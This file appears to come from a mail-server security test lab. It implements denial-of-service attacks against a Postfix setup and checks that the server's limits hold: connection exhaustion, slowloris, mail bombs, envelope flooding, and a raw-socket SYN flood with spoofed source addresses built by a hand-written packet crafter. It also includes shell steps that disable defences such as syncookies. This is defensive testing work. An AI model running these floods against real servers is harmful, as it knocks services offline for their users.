@@ -1,0 +1,459 @@
+"""A-DOS: taking the door away from those who knock politely (essay 3.1.3)."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import math
+import random
+import socket
+import struct
+import time
+from collections.abc import Sequence
+
+from outpost_lab.attack.evidence import Evidence
+from outpost_lab.attack.ground import HELLO, Ground, letter, token
+from outpost_lab.attack.registry import attack
+from outpost_lab.attack.weakness import Weakness, edited, postfix
+from outpost_lab.attack.wire import CLOSED, SILENT, Reply, Session, unverified
+
+IDLE = 130
+BOMB, BOMB_SIZE = 300, 288_000
+
+
+@attack(
+    "3a",
+    without=postfix(
+        smtpd_client_connection_count_limit="0",
+        smtpd_client_connection_rate_limit="0",
+        postscreen_client_connection_count_limit="0",
+    ),
+)
+async def many_connections_from_one_address(ground: Ground, seen: Evidence) -> None:
+    cap = ground.office.limits.connections_per_client
+    source = ground.internet.fresh_source()
+    sessions: list[Session] = []
+    try:
+
+        async def one() -> Reply:
+            session = await ground.smtp(seen, source=source, hello=False, patience=30)
+            sessions.append(session)
+            return session.greeting
+
+        greetings = await asyncio.gather(*(one() for _ in range(cap + 15)))
+        taken = sum(reply.code == 220 for reply in greetings)
+        seen.check(
+            taken <= cap,
+            f"{cap} sessions at most",
+            f"{taken} sessions, {sum(r.code == 421 for r in greetings)} times 421",
+        )
+        refused = [reply for reply in greetings if reply.code != 220]
+        seen.expect_all(
+            [("one more", reply) for reply in refused] or [("one more", greetings[0])], "421 4.7.0", "closed"
+        )
+        async with await ground.smtp(seen, ground.stranger) as honest:
+            seen.expect(honest.greeting, "220", what="somebody else meanwhile")
+    finally:
+        await _over(sessions)
+
+
+async def _over(held: list[Session], attackers: Sequence[asyncio.Task[None]] = ()) -> None:
+    for task in attackers:
+        task.cancel()
+    await asyncio.gather(*attackers, return_exceptions=True)
+    for session in held:
+        session.close()
+
+
+async def _greeted(ground: Ground, seen: Evidence) -> float:
+    """Seconds until an honest stranger is greeted with nothing going on."""
+    started = time.monotonic()
+    async with await ground.smtp(seen, ground.stranger, patience=40) as session:
+        seen.expect(session.greeting, "220", what="with nothing going on")
+    return time.monotonic() - started
+
+
+async def _hold(ground: Ground, seen: Evidence, *, slowly: bool) -> None:
+    """Sessions from as many addresses that say nothing, or a byte a second; an honest stranger wants to deliver."""
+    held: list[Session] = []
+
+    async def one(source: str) -> None:
+        try:
+            streams = await ground.internet.connect(ground.door, 25, source=source, patience=30)
+        except (OSError, TimeoutError):
+            return
+        session = Session(streams, lambda _line: None)
+        held.append(session)
+        if (await session.reply(patience=30)).code != 220:
+            return
+        if slowly:
+            for byte in b"EHLO slow.hostile.test":
+                await session.send(bytes([byte]))
+                await asyncio.sleep(1)
+
+    idle = await _greeted(ground, seen)
+    attackers = [asyncio.create_task(one(source)) for source in ground.internet.sources[:IDLE]]
+    try:
+        await asyncio.sleep(4)
+        waits = []
+        for _ in range(4):
+            started = time.monotonic()
+            async with await ground.smtp(seen, ground.stranger, patience=40) as session:
+                waits.append(time.monotonic() - started if session.greeting.code == 220 else math.inf)
+                seen.expect(
+                    await session.envelope("stranger@internet.test", ground.someone(2)),
+                    "250",
+                    what="an honest stranger",
+                )
+            await asyncio.sleep(2)
+        seen.note(
+            f"({len(held)} sessions held; the honest stranger waited {', '.join(f'{wait:.1f}' for wait in waits)} s)"
+        )
+        seen.check(len(held) > IDLE * 0.8, "the attack takes place", f"{len(held)} sessions held")
+        seen.in_time(max(waits), 10, idle, "an honest stranger is greeted after")
+    finally:
+        await _over(held, attackers)
+
+
+@attack("3b", without=postfix("smtpd/pass/process_limit=20", smtpd_timeout="3000s"))
+async def idle_connections_from_many_addresses(ground: Ground, seen: Evidence) -> None:
+    await _hold(ground, seen, slowly=False)
+
+
+@attack("3c")
+async def slowloris(ground: Ground, seen: Evidence) -> None:
+    await _hold(ground, seen, slowly=True)
+
+
+@attack("3j", without=postfix(smtpd_timeout="3000s", smtpd_per_request_deadline="no"))
+async def a_silent_client_is_cut_off(ground: Ground, seen: Evidence) -> None:
+    async with await ground.smtp(seen) as session:
+        await session.send(b"MAIL FRO")
+        started = time.monotonic()
+        answer = await session.reply(patience=90)
+        # not `expect`: for it silence is a refusal, and here silence is what the attacker wants
+        seen.check(
+            answer.begins("421 4.4.2", "closed"),
+            "421 4.4.2 or closed",
+            f"after {time.monotonic() - started:.0f} s: {answer.brief}",
+        )
+
+
+@attack("3m", without=postfix(smtpd_client_ipv6_prefix_length="128"))
+async def sessions_from_all_over_one_ipv6_network(ground: Ground, seen: Evidence) -> None:
+    cap = ground.office.limits.connections_per_client
+    sources = [await ground.newcomer() for _ in range(cap + 8)]
+    held: list[Session] = []
+
+    async def one(source: str) -> bool:
+        session = await ground.smtp(seen, source=source, address=ground.door6, hello=False, patience=30)
+        held.append(session)
+        return session.greeting.code == 220
+
+    try:
+        taken = sum(await asyncio.gather(*(one(source) for source in sources)))
+        seen.check(taken <= cap, f"{cap} sessions of one /64 at most", f"{taken} of {len(sources)} taken")
+    finally:
+        await _over(held)
+        await ground.on(
+            "attacker", "; ".join(f"ip address del {source}/64 dev eth0 2>/dev/null" for source in sources)
+        )
+
+
+NO_CROWD = edited(
+    "mta", "few sessions each while port 25 is crowded", "/etc/nftables.conf", "/tcp dport 25 jump crowd/d",
+    "nft -f /etc/nftables.conf && systemctl restart postfix.service",  # its processes under stress stay so for minutes
+)  # fmt: skip
+CROWD, EACH = 35, 12
+
+
+@attack("3p", without=NO_CROWD)
+async def sessions_of_a_few_addresses_each_within_its_limit(ground: Ground, seen: Evidence) -> None:
+    """They hold all sessions that there are, and come again when they are cut off."""
+    assert ground.office.limits.connections_per_client >= EACH
+    idle = min([await _greeted(ground, seen) for _ in range(3)])
+    held: list[Session] = []
+
+    async def one(source: str) -> None:
+        while True:
+            with contextlib.suppress(OSError, TimeoutError):
+                session = Session(
+                    await ground.internet.connect(ground.door, 25, source=source), lambda _line: None
+                )
+                held.append(session)
+                while (await session.reply(patience=120)).code not in (CLOSED, SILENT):
+                    pass  # the attacker says nothing
+                session.close()
+                held.remove(session)
+            await asyncio.sleep(1)
+
+    sources = ground.internet.sources[:CROWD]
+    attackers = [asyncio.create_task(one(source)) for source in sources for _ in range(EACH)]
+    try:
+        await asyncio.sleep(5)
+        waits = []
+        for _ in range(4):
+            started = time.monotonic()
+            async with await ground.smtp(seen, ground.stranger, patience=60) as session:
+                waits.append(time.monotonic() - started if session.greeting.code == 220 else math.inf)
+            await asyncio.sleep(1)
+        seen.note(f"({len(attackers)} sockets from {len(sources)} addresses, {len(held)} sessions held)")
+        seen.in_time(max(waits), 2, idle, "an honest stranger is greeted after")
+    finally:
+        await _over(held, attackers)
+
+
+COUNTED_AT_RCPT = edited(
+    "mta", "messages are counted when their last byte has come", "/usr/local/lib/outpost/policy",
+    r"s/not all\(bucket\.fits\(self\.clock\(\)\) for/not all(bucket.take(self.clock()) for/",
+    "systemctl restart outpost-policy.service",
+)  # fmt: skip
+
+
+@attack("3n", without=COUNTED_AT_RCPT)
+async def a_mailbox_closed_without_a_message(ground: Ground, seen: Evidence) -> None:
+    """Its address is named again and again, in sessions that send nothing; honest mail goes on."""
+    victim, named = ground.someone(2), 0
+    while named < 2 * ground.office.limits.mailbox_messages:
+        async with await ground.smtp(seen) as session:
+            for _ in range(2):
+                await session.say("MAIL FROM:<x@internet.test>")
+                said = await session.say_all([f"RCPT TO:<{victim}>"] * 50)
+                named += len(said)
+                await session.say("RSET")
+    async with await ground.smtp(seen, ground.stranger) as session:
+        seen.expect(
+            await session.envelope("stranger@internet.test", victim),
+            "250",
+            what=f"honest mail after {named} recipients",
+        )
+
+
+@attack("3o")
+async def a_bomb_by_way_of_the_backup_mx(ground: Ground, seen: Evidence) -> None:
+    """What a peer relays for strangers counts as strangers' mail, and one network gets half."""
+    peer = next(peer for peer in ground.office.peers if peer.backup_mx)
+    recipient, mark, most = ground.someone(2), token(), ground.office.limits.mailbox_messages // 2
+    taken, last, started = 0, None, time.monotonic()
+    async with await ground.smtp(seen, ground.peer, port=peer.listen, patience=120) as session:
+        await session.say("STARTTLS")
+        await session.start_tls(ground.role("mta").fqdn, unverified())
+        await session.say(f"EHLO {HELLO}")
+        for _ in range(most + 10):
+            message = letter("stranger@internet.test", recipient, mark)
+            last = await session.deliver("stranger@internet.test", recipient, message)
+            if not last.good:
+                break
+            taken += 1
+    # as many again in ten minutes: on a slow machine the bomb is none
+    allowed = most + 2 + int(most * (time.monotonic() - started) / 600)
+    seen.check(taken <= allowed, f"{allowed} messages at most", f"{taken} taken")
+    if last is not None and not last.good:
+        seen.expect(last, "450 4.7.1", what="the limit")
+    await ground.settled(patience=60)
+    await ground.on(
+        ground.role("store").name, f"doveadm expunge -u {recipient} mailbox INBOX body {mark}; true"
+    )
+
+
+@attack(
+    "3d",
+    without=postfix(
+        strict_rfc821_envelopes="no",
+        smtpd_sender_restrictions="",
+        smtpd_recipient_restrictions="",
+        smtpd_soft_error_limit="100",
+        smtpd_hard_error_limit="200",
+    ),
+)
+async def malformed_envelopes(ground: Ground, seen: Evidence) -> None:
+    malformed = {
+        "MAIL FROM: x@internet.test": ("501 5.1.7",), "MAIL FROM:<x@internet.test": ("501 5.1.7",),
+        "MAIL FROM:<x@internet.test> SIZE=-1": ("501 5.5.4",), "MAIL FROM:<x@internet.test> FOO=BAR": ("555 5.5.4",),
+        "MAIL FROM:<x y@internet.test>": ("501 5.", "555 5.5.4"),
+        "MAIL FROM:<x@localhost>": ("504 5.5.2",), "MAIL FROM:<x@no-such-domain.internet.invalid>": ("550 5.1.8", "450 4.1.8"),
+    }  # fmt: skip
+    for line, expected in malformed.items():
+        async with await ground.smtp(seen) as session:
+            said = await session.say(line)
+            said = await session.say(f"RCPT TO:<{ground.someone()}>") if said.good else said
+            seen.expect(said, *expected, what=line[10:40])
+    for recipient, expected in {
+        f"{ground.someone()}": ("501 5.1.3",), "<>": ("501 5.1.3",), f"<{ground.someone()}> FOO=BAR": ("555 5.5.4",),
+        "<alice>": ("504 5.5.2", "550 5.1.1"), f"<@{ground.domain}>": ("501 5.1.3", "553 5.1."),
+    }.items():  # fmt: skip
+        async with await ground.smtp(seen) as session:
+            await session.say("MAIL FROM:<>")
+            seen.expect(await session.say(f"RCPT TO:{recipient}"), *expected, what=f"RCPT {recipient}")
+
+
+@attack(
+    "3e",
+    without=postfix(
+        smtpd_hard_error_limit="1000", smtpd_soft_error_limit="1000", smtpd_junk_command_limit="1000"
+    ),
+)
+async def nonsense_without_end(ground: Ground, seen: Evidence) -> None:
+    async with await ground.smtp(seen) as session:
+        said = await session.say_all([f"NONSENSE {number}" for number in range(30)])
+        seen.expect(said[-1][1], "421 4.7.0", "221 2.7.0", "closed", what=f"after {len(said)} commands")
+        seen.check(len(said) <= 12, "no more than a dozen answers", f"{len(said)} answers")
+    async with await ground.smtp(seen) as session:
+        said = await session.say_all(["NOOP"] * 150)
+        seen.expect(said[-1][1], "421 4.7.0", "closed", what=f"after {len(said)} NOOPs")
+
+
+@attack("3f", without=postfix(message_size_limit="0"))
+async def messages_too_large(ground: Ground, seen: Evidence) -> None:
+    limit = int(ground.office.limits.message_size)
+    async with await ground.smtp(seen, ground.stranger) as session:
+        said = await session.say(f"MAIL FROM:<stranger@internet.test> SIZE={limit + 1}")
+        seen.expect(said, "552 5.3.4", what="declared")
+        await session.say("RSET")
+        await session.envelope("stranger@internet.test", ground.someone(2))
+        line = b"0123456789abcdef" * 4 + b"\r\n"
+        body = letter("stranger@internet.test", ground.someone(2), token()) + line * (
+            limit // len(line) + 2000
+        )
+        seen.expect(await session.message(body), "552 5.3.4", "closed", what="undeclared")
+
+
+@attack("3g")
+async def mail_while_the_queue_volume_is_full(ground: Ground, seen: Evidence) -> None:
+    """The reserve is set above what is free: for Postfix that is a full volume, and no disk is filled for it."""
+    await ground.on_mta(
+        "set -e; cp -a /etc/postfix/main.cf /root/main.cf.kept; free=$(df --output=avail -B1 /var/spool/postfix | tail -n 1); "
+        'postconf -e "queue_minfree=$(( free < 4611686018427387904 ? free + 1073741824 : free ))"; systemctl reload postfix.service; sleep 1'
+    )
+    try:
+        async with await ground.smtp(seen, ground.stranger) as session:
+            seen.expect(await session.say("MAIL FROM:<stranger@internet.test> SIZE=1000"), "452 4.3.1")
+    finally:
+        await ground.on_mta(
+            "cp -a /root/main.cf.kept /etc/postfix/main.cf; rm /root/main.cf.kept; systemctl reload postfix.service; sleep 1"
+        )
+    async with await ground.smtp(seen, ground.stranger) as session:
+        seen.expect(
+            await session.say("MAIL FROM:<stranger@internet.test> SIZE=1000"), "250", what="with room again"
+        )
+
+
+@attack("3h")
+async def a_mail_bomb_to_one_user(ground: Ground, seen: Evidence) -> None:
+    """To dave, whose mailbox is small: it ends at a rate or at the quota, and nobody gets a bounce."""
+    recipient, victim, mark = f"dave@{ground.domain}", ground.victim(), token()
+    line = b"0123456789abcdef" * 4 + b"\r\n"
+    message = letter(victim, recipient, mark) + line * (BOMB_SIZE // len(line))
+    answers: list[Reply] = []
+
+    async def some(count: int) -> None:
+        async with await ground.smtp(seen, ground.stranger, patience=120) as session:
+            for _ in range(count):
+                said = await session.deliver(victim, recipient, message)
+                answers.append(said)
+                if said.code in (CLOSED, SILENT, 421):
+                    return
+
+    await asyncio.gather(*(some(BOMB // 6) for _ in range(6)))
+    taken = sum(reply.good for reply in answers)
+    last = next((reply for reply in answers if not reply.good), answers[-1])
+    seen.check(
+        taken < BOMB, "a limit before the end of the bomb", f"{taken} of {BOMB} taken; then: {last.brief}"
+    )
+    if not last.good:
+        seen.expect(
+            last, "450 4.7.1", "451 4.7.1", "452 4.2.2", "450 4.2.", "452 4.", "421", what="the limit"
+        )
+    await ground.settled(patience=60)
+    got = await ground.sink(victim)
+    seen.check(got == 0, "no bounce to the forged sender", f"{got} messages at the victim's sink")
+    await ground.on(
+        ground.role("store").name, f"doveadm expunge -u {recipient} mailbox INBOX body {mark}; true"
+    )
+    await ground.drop_mail_to(victim)
+
+
+@attack("3i", without=postfix(smtpd_client_message_rate_limit="0", smtpd_client_recipient_rate_limit="0"))
+async def envelopes_without_end(ground: Ground, seen: Evidence) -> None:
+    source = ground.internet.fresh_source()
+
+    async def some() -> list[Reply]:
+        answers = []
+        async with await ground.smtp(seen, source=source) as session:
+            for _ in range(20):
+                answers.append(await session.say("MAIL FROM:<x@internet.test>"))
+                await session.say("RSET")
+        return answers
+
+    answers = [reply for part in await asyncio.gather(*(some() for _ in range(8))) for reply in part]
+    taken = sum(reply.good for reply in answers)
+    refused = next((reply for reply in answers if not reply.good), answers[-1])
+    seen.expect(refused, "450 4.7.1", what=f"after {taken} envelopes")
+
+
+HALF_OPEN = 40_000
+
+
+def _checksum(data: bytes) -> int:
+    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    total = (total >> 16) + (total & 0xFFFF)
+    return ~(total + (total >> 16)) & 0xFFFF
+
+
+def _syn(source: str, target: str, port: int, number: int) -> bytes:
+    """An IPv4 packet that asks for a connection and will never answer."""
+    ends = socket.inet_aton(source) + socket.inet_aton(target)
+    tcp = struct.pack("!HHIIBBHHH", 1024 + number % 60000, port, number, 0, 5 << 4, 2, 64240, 0, 0)
+    check = _checksum(ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
+    ip = (
+        struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), number & 0xFFFF, 0, 64, socket.IPPROTO_TCP, 0) + ends
+    )
+    return ip + tcp[:16] + struct.pack("!H", check) + tcp[18:]
+
+
+NO_COOKIES = Weakness(
+    role="mta",
+    what="net.ipv4.tcp_syncookies=0, a short queue of half-open connections",
+    keeps=(),
+    # whom the kernel has met before it lets in all the same: forgotten, and not learnt anew meanwhile
+    steps="sysctl -qw net.ipv4.tcp_syncookies=0 net.ipv4.tcp_max_syn_backlog=128 net.ipv4.tcp_no_metrics_save=1; "
+    "ip tcp_metrics flush",
+    activate="true",
+    undo="sysctl -qw net.ipv4.tcp_syncookies=1 net.ipv4.tcp_max_syn_backlog=4096 net.ipv4.tcp_no_metrics_save=0",
+)
+
+
+@attack("3k", without=NO_COOKIES)
+async def half_open_connections(ground: Ground, seen: Evidence) -> None:
+    """Requests for connections from addresses that nobody has: they are never completed, and fill the table."""
+    stem = str(ground.info["world"]["attacker"]["addresses"]["wan"][0]).rpartition(".")[0]
+    nobody = [f"{stem}.{octet}" for octet in range(231, 251)]
+    raw = ground.internet.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    chance = random.Random(7)  # noqa: S311 (the same packets every time)
+    waits = []
+
+    async def flood() -> None:
+        for number in range(HALF_OPEN):
+            raw.sendto(_syn(chance.choice(nobody), ground.door, 25, number), (ground.door, 0))
+            if number % 50 == 0:
+                await asyncio.sleep(0.05)
+
+    idle = await _greeted(ground, seen)
+    flooding = asyncio.create_task(flood())
+    try:
+        for _ in range(4):
+            await asyncio.sleep(1)
+            started = time.monotonic()
+            try:
+                async with await ground.smtp(seen, ground.stranger, patience=15) as session:
+                    seen.expect(session.greeting, "220", what="an honest stranger")
+            except (OSError, TimeoutError) as error:
+                none, late = f"none: {type(error).__name__}", isinstance(error, TimeoutError)
+                seen.check(held=False, expected="a connection", observed=none, late=late)
+            waits.append(time.monotonic() - started)
+    finally:
+        flooding.cancel()
+        await asyncio.gather(flooding, return_exceptions=True)
+        raw.close()
+    seen.note(f"({HALF_OPEN} requests; waits {', '.join(f'{wait:.1f}' for wait in waits)} s)")
+    seen.in_time(max(waits), 10, idle, "an honest stranger is greeted after")
